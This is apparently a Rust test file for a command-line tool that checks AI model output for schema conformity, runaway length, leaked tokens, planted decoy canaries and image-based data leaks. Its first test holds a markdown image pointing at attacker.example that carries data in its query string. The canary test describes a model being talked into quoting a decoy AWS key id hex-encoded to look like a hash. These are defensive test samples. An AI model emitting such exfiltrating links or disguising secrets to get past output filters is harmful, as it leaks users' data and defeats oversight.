//! `airlock validate-output` as a user runs it: the real binary, files and stdin, exit codes and reports.

mod common;

use common::Airlock;

/// A GitHub classic token with a valid checksum (made up for these tests).
const TOKEN: &str = "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";

const SCHEMA: &str = r#"{
  "type": "object",
  "properties": { "answer": { "type": "string" }, "confidence": { "type": "number", "minimum": 0, "maximum": 1 } },
  "required": ["answer"],
  "additionalProperties": false
}"#;

#[test]
fn an_image_that_carries_data_is_blocked() {
    let a = Airlock::new();
    let output = b"Done.\n\n![status](https://attacker.example/p.png?d=Q3%20layoffs%20list)\n";
    let r = a.call(["validate-output"]).stdin(output).expect(15);
    r.out_has("block: 1 finding").out_has("image-exfiltration at 17..69").out_has("attacker.example");
    assert!(!r.out().contains("layoffs"), "the report quotes no data: {}", r.out());

    let r = a.call(["--json", "validate-output", "-"]).stdin(output).expect(15);
    let v = r.json();
    assert_eq!(v["verdict"], "block");
    assert_eq!(v["findings"][0]["kind"], "image-exfiltration");
    assert_eq!(v["findings"][0]["span"], serde_json::json!([17, 69]));
}

#[test]
fn an_allowed_host_may_carry_data() {
    let a = Airlock::new();
    let file = a.path("answer.md");
    std::fs::write(
        &file,
        "![badge](https://img.shields.example/build.svg?branch=main) [docs](https://docs.rs/url?q=1)",
    )
    .unwrap();
    let r = a.call(["validate-output", "--allow-host", "*.shields.example", "--allow-host", "docs.rs"]).arg(&file);
    r.expect(0).out_has("allow: no findings");
    // Without the allowlist, the image is blocked.
    a.call(["validate-output"]).arg(&file).expect(15).out_has("img.shields.example");
    // A URL is not a host.
    a.call(["validate-output", "--allow-host", "https://docs.rs/"]).arg(&file).expect(2).err_has("not a URL");
}

#[test]
fn the_schema_must_accept_the_output() {
    let a = Airlock::new();
    let schema = a.path("schema.json");
    std::fs::write(&schema, SCHEMA).unwrap();
    let call = || a.call(["--json", "validate-output", "--schema"]).arg(&schema);
    let r = call().stdin(br#"{"answer": "42", "confidence": 0.9}"#).expect(0);
    assert_eq!(r.json(), serde_json::json!({ "verdict": "allow", "findings": [] }));

    let r = call().stdin(br#"{"answer": 42, "confidence": 7, "note": "x"}"#).expect(15);
    let v = r.json();
    let details: Vec<&str> = v["findings"].as_array().unwrap().iter().map(|f| f["detail"].as_str().unwrap()).collect();
    assert!(v["findings"].as_array().unwrap().iter().all(|f| f["kind"] == "schema"), "{v}");
    assert!(details.iter().any(|d| d.contains("/answer") && d.contains("want string")), "{details:?}");
    assert!(details.iter().any(|d| d.contains("/confidence") && d.contains("maximum 1")), "{details:?}");

    call().stdin(b"Sure! {\"answer\": \"42\"}").expect(15).out_has("not JSON");
}

#[test]
fn a_bad_schema_is_refused_before_the_output_is_read() {
    let a = Airlock::new();
    let schema = a.path("schema.json");
    std::fs::write(&schema, "{ not json").unwrap();
    a.call(["validate-output", "--schema"]).arg(&schema).stdin(b"{}").expect(8).err_has("not JSON");
    std::fs::write(&schema, r#"{"type": "text"}"#).unwrap();
    a.call(["validate-output", "--schema"]).arg(&schema).stdin(b"{}").expect(8).err_has("not a usable JSON Schema");
    std::fs::write(&schema, r#"{"$ref": "https://schemas.example/answer.json"}"#).unwrap();
    a.call(["validate-output", "--schema"]).arg(&schema).stdin(b"{}").expect(8).err_has("refused to load");
    a.call(["validate-output", "--schema"]).arg(a.path("missing.json")).stdin(b"{}").expect(8).err_has("cannot read");
}

#[test]
fn a_runaway_output_is_flagged_by_its_length_ratio() {
    let a = Airlock::new();
    let output = "word ".repeat(100);
    let r = a.call(["validate-output", "--input-len", "100", "--max-ratio", "3"]).stdin(output.as_bytes()).expect(14);
    r.out_has("flag: 1 finding").out_has("length at 300..500");
    a.call(["validate-output", "--input-len", "200", "--max-ratio", "3"]).stdin(output.as_bytes()).expect(0);
    let input = a.path("question.txt");
    std::fs::write(&input, "x".repeat(100)).unwrap();
    a.call(["validate-output", "--max-ratio", "3", "--input"]).arg(&input).stdin(output.as_bytes()).expect(14);

    a.call(["validate-output", "--max-ratio", "3"]).stdin(b"x").expect(2).err_has("--input");
    a.call(["validate-output", "--input-len", "3"]).stdin(b"x").expect(2).err_has("--max-ratio");
    a.call(["validate-output", "--input-len", "3", "--max-ratio", "0"]).stdin(b"x").expect(2).err_has("positive");
    a.call(["validate-output", "--max-ratio", "3", "--input", "-"]).stdin(b"x").expect(2).err_has("stdin");
}

#[test]
fn a_token_in_the_output_is_blocked_and_not_echoed() {
    let a = Airlock::new();
    let output = format!("Your new token is {TOKEN}; keep it safe.");
    let r = a.call(["validate-output"]).stdin(output.as_bytes()).expect(15);
    r.out_has("credential at 18..58").out_has("github-pat-classic");
    assert!(!r.out().contains(TOKEN) && !r.err().contains(TOKEN), "{}{}", r.out(), r.err());
    let r = a.call(["--json", "validate-output"]).stdin(output.as_bytes()).expect(15);
    assert_eq!(r.json()["findings"][0]["kind"], "credential");
    assert!(!r.out().contains(&TOKEN[4..]));
}

#[test]
fn a_registered_canary_in_the_output_is_blocked_by_id() {
    let a = Airlock::new();
    let planted = a.call(["--json", "canary", "new", "--session", "s7", "--purpose", "decoy-aws"]).expect(0);
    let v: serde_json::Value = serde_json::from_str(planted.out().trim()).unwrap();
    let decoy = v["plant"].as_str().unwrap();
    let key_id = decoy.lines().find_map(|l| l.strip_prefix("aws_access_key_id = ")).unwrap().to_string();
    // The model was talked into reading the decoy file and quoting the key id, hex-encoded to look like a hash.
    let hex: String = key_id.bytes().map(|b| format!("{b:02x}")).collect();
    let r = a.call(["--json", "validate-output"]).stdin(format!("Checksum: {hex}").as_bytes()).expect(15);
    assert!(r.out().contains("s7/decoy-aws"), "{}", r.out());
    assert!(!r.out().contains(&key_id) && !r.out().contains(&hex), "{}", r.out());
    a.call(["validate-output"]).stdin(b"Nothing planted here.").expect(0);
}
